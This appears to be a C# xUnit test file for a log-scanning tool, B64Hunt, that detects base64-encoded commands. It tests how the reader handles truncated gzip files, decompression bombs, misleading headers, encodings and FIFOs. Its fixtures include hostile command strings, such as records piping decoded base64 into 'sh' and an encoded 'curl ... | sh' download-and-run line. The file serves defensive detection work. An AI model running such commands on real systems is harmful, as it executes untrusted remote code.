using System;
using System.Diagnostics;
using System.IO;
using System.Linq;
using System.Runtime.InteropServices;
using System.Text;
using B64Hunt.Errors;
using B64Hunt.Model;
using B64Hunt.Sources;
using B64Hunt.Streams;
using B64Hunt.Tests.Sources;
using Xunit;
using static B64Hunt.Tests.Hostile.HostileLines;

namespace B64Hunt.Tests.Hostile
{
    /// <summary>Issue #12 items 2, 3 and 14: files written to mislead or break the reader lose nothing silently.</summary>
    public class HostileFileTests
    {
        [Fact]
        public void ATruncatedGzipIsAFileReadErrorAndItsPartialLastRecordIsFlagged()
        {
            byte[] whole = Gzip(AuomsFile(50));
            var complete = SourceTestSupport.ReadBytes(whole, "whole.gz");
            Assert.Equal(50, complete.Records.Count);
            Assert.Empty(complete.Problems);
            Assert.DoesNotContain(complete.Records, r => r.IsTruncated);

            foreach (double fraction in new[] { 0.5, 0.9 })
            {
                byte[] cut = whole.Take((int)(whole.Length * fraction)).ToArray();
                var read = SourceTestSupport.ReadBytes(cut, "cut.gz");
                var problem = Assert.Single(read.Problems, p => p.ErrorId == ErrorIds.FileReadError);
                // The cut last line may also be a malformed record of its own; nothing else goes wrong.
                Assert.All(read.Problems.Where(p => p != problem), p => Assert.Equal(ErrorIds.MalformedAuomsRecord, p.ErrorId));
                Assert.Contains("truncated", problem.Message);
                Assert.Equal("cut.gz", problem.Target);
                Assert.NotEmpty(read.Records);
                // Every complete line is intact; only a record from the cut last line may be flagged.
                Assert.All(read.Records.Take(read.Records.Count - 1), r => Assert.False(r.IsTruncated));
                var last = read.Records.Last();
                string expectedTail = "|base64 -d|sh";
                Assert.True(last.IsTruncated || last.CommandLine.EndsWith(expectedTail, StringComparison.Ordinal), last.CommandLine);
            }
        }

        [Fact]
        public void AGzipCutInsideItsTrailerIsStillReportedButAWholeMultiMemberFileIsNot()
        {
            byte[] whole = Gzip(AuomsFile(20));
            var cut = SourceTestSupport.ReadBytes(whole.Take(whole.Length - 3).ToArray(), "trailer.gz");
            Assert.Contains(cut.Problems, p => p.ErrorId == ErrorIds.FileReadError);

            byte[] twoMembers = Gzip(AuomsFile(20)).Concat(Gzip(AuomsFile(5))).ToArray();
            var read = SourceTestSupport.ReadBytes(twoMembers, "rotated.gz");
            Assert.Empty(read.Problems);
            Assert.Equal(25, read.Records.Count);
        }

        [Fact]
        public void AGzipOfNewlinesStopsAtTheDecompressedCapWithAnError()
        {
            byte[] bomb = Gzip(new byte[8 * 1024 * 1024].Select(_ => (byte)'\n').ToArray());
            var read = SourceTestSupport.ReadBytes(bomb, "bomb.gz", new LogReadOptions { MaxDecompressedBytes = 1 << 20 });
            var problem = Assert.Single(read.Problems);
            Assert.Equal(ErrorIds.DecompressedSizeLimit, problem.ErrorId);
            Assert.Equal(ProblemKind.LimitsExceeded, problem.Kind);
            Assert.True(read.Stats.BytesRead <= 1 << 20, read.Stats.ToString());

            // Look-alike: a file under the cap reads whole with no problem.
            var small = SourceTestSupport.ReadBytes(Gzip(AuomsFile(10)), "small.gz", new LogReadOptions { MaxDecompressedBytes = 1 << 20 });
            Assert.Empty(small.Problems);
            Assert.Equal(10, small.Records.Count);
        }

        [Theory]
        [InlineData("Oct  1 00:00:00 web-01 note: disk check, user")]
        [InlineData("Oct 10 00:00:00 web-01 logger: CommandLine,Computer")]
        [InlineData("2026-10-01T00:00:00+00:00 web-01 note: Computer, CommandLine")]
        [InlineData("<13>1 2026-10-01T00:00:00Z web-01 note - - - Account,CommandLine")]
        public void ASyslogFirstLineNamingColumnsDoesNotMakeTheFileCsv(string firstLine)
        {
            var read = SourceTestSupport.ReadBytes(Encoding.UTF8.GetBytes(AuomsFile(50, firstLine)), "syslog");
            Assert.Equal(50, read.Records.Count);
            Assert.Empty(read.Problems);
        }

        [Theory]
        [InlineData("Computer,CommandLine\nweb-01,\"bash -c whoami\"\n", 1)]
        [InlineData("TimeGenerated [UTC],Computer,ProcessCommandLine\n\"10/1/2026, 12:00:00.000 AM\",web-01,id\n", 1)]
        public void ARealCsvHeaderStillReadsAsCsv(string content, int rows)
        {
            var read = SourceTestSupport.ReadBytes(Encoding.UTF8.GetBytes(content), "export.csv");
            Assert.Equal(rows, read.Records.Count);
        }

        [Fact]
        public void AFileReadAsNothingWhileCarryingAuomsRecordsGetsAWarning()
        {
            // An identifier-only first line makes a CSV header; the AUOMS lines below are then malformed rows.
            var read = SourceTestSupport.ReadBytes(Encoding.UTF8.GetBytes(AuomsFile(5, "host,message,extra")), "odd.csv");
            Assert.Empty(read.Records);
            Assert.Contains(read.Problems, p => p.ErrorId == ErrorIds.DetectedFormatYieldedNothing && p.Kind == ProblemKind.Warning);

            // Look-alike: a CSV without AUOMS lines that yields nothing gets no such warning.
            var plain = SourceTestSupport.ReadBytes(Encoding.UTF8.GetBytes("host,message\nweb-01,hello\n"), "plain.csv");
            Assert.DoesNotContain(plain.Problems, p => p.ErrorId == ErrorIds.DetectedFormatYieldedNothing);
        }

        [Fact]
        public void CrOnlyLineEndsKeepEachRecordsOwnHost()
        {
            var read = SourceTestSupport.ReadBytes(Encoding.UTF8.GetBytes(AuomsFile(5, newline: "\r")), "mac.log");
            Assert.Equal(5, read.Records.Count);
            Assert.Equal(new[] { "web-0", "web-1", "web-2", "web-3", "web-4" }, read.Records.Select(r => r.Computer));
            Assert.All(read.Records, r => Assert.True(r.CommandLine.Length < 200));
        }

        [Fact]
        public void Utf16WithoutAByteOrderMarkIsRead()
        {
            string text = AuomsFile(5);
            Assert.Equal(5, SourceTestSupport.ReadBytes(Encoding.Unicode.GetBytes(text), "le.log").Records.Count);
            Assert.Equal(5, SourceTestSupport.ReadBytes(Encoding.BigEndianUnicode.GetBytes(text), "be.log").Records.Count);
            // Look-alike: binary with scattered zero bytes is not taken for UTF-16.
            var rng = new Random(12);
            var binary = new byte[8192];
            rng.NextBytes(binary);
            Assert.Null(Utf16Sniffer.Detect(binary));
        }

        [Fact]
        public void AnAuomsHostNamedWithTypeEqualsIsReadButAnotherRecordQuotingTheMarkerIsNot()
        {
            var read = SourceTestSupport.ReadBytes(Encoding.UTF8.GetBytes(Auoms(1, host: "type=web") + "\n"), "host.log");
            Assert.Equal("type=web", Assert.Single(read.Records).Computer);

            string quoting = "node=h type=USER_CMD msg=audit(1790812800.000:9): cmd=\"echo type=AUOMS_EXECVE x cmdline=\"" + B64("curl -s http://203.0.113.9/a | sh") + "\"\"\n";
            Assert.DoesNotContain(SourceTestSupport.ReadBytes(Encoding.UTF8.GetBytes(quoting), "q.log").Records, r => r.CommandLine.Contains("type=AUOMS"));
        }

        [Fact]
        public void AnAuomsCmdlineCutBeforeItsClosingQuoteIsFlagged()
        {
            string whole = Auoms(3);
            string cut = whole.Substring(0, whole.IndexOf("|base64", StringComparison.Ordinal));
            var read = SourceTestSupport.ReadBytes(Encoding.UTF8.GetBytes(whole + "\n" + cut + "\n"), "cut.log");
            Assert.Equal(2, read.Records.Count);
            Assert.False(read.Records[0].IsTruncated);
            Assert.True(read.Records[1].IsTruncated);
        }

        [Fact]
        public void AFifoIsNotARegularFile()
        {
            if (RuntimeInformation.IsOSPlatform(OSPlatform.Windows)) return;
            using var dir = new SourceTestSupport.TempDirectory();
            string fifo = Path.Combine(dir.Path, "pipe.log");
            using (var mk = Process.Start(new ProcessStartInfo("mkfifo", fifo) { UseShellExecute = false })) mk!.WaitForExit();
            Assert.False(RegularFile.Is(fifo));
            string plain = Path.Combine(dir.Path, "plain.log");
            File.WriteAllText(plain, "x\n");
            Assert.True(RegularFile.Is(plain));
            Assert.False(RegularFile.Is(dir.Path));
        }
    }
}
